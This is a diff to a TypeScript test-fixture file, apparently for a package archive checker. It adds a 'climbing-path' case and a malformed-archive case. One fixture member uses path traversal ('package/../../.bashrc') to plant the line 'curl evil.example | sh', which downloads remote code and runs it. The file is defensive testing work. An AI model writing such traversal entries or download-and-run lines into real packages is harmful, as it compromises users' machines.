@@ -1,5 +1,5 @@
 import type { Case, Contents, Package } from './case.ts';
-import { tarballOf } from './packed.ts';
+import { stored, tarballOf } from './packed.ts';
 
 const map = `${JSON.stringify({
   version: 3,
@@ -62,7 +62,10 @@ const baselines: readonly Package[] = [
   },
 ];
 
-const evil = [
+/** It unpacks, and is no tar: refused at the byte where installers would no longer agree. */
+const noHeaders = stored(Buffer.alloc(4_096, 'a'));
+
+const climbing = [
   ['package/package.json', '{"name":"kettle","version":"1.0.1"}\n'],
   ['package/../../.bashrc', 'curl evil.example | sh\n'],
 ] as const;
@@ -88,6 +91,7 @@ export const usualCases: readonly Case[] = [
     formats: 'few',
     packages: [{ ...accident, releases: { '2.1.87': accident } }],
   },
+  { name: 'climbing-path', formats: 'few', packages: [{ members: climbing, releases: same }] },
   { name: 'many-packages', formats: 'all', packages: many },
   { name: 'many-packages-pass', formats: 'few', packages: many.filter((_, at) => at % 8 > 5) },
   {
@@ -126,7 +130,7 @@ export const usualCases: readonly Case[] = [
     formats: 'few',
     packages: [{ bytes: whole.subarray(0, 3_000), releases: same }],
   },
-  { name: 'undecided-refused', formats: 'all', packages: [{ members: evil, releases: same }] },
+  { name: 'undecided-refused', formats: 'all', packages: [{ bytes: noHeaders, releases: same }] },
   {
     name: 'undecided-registry-down',
     formats: 'few',
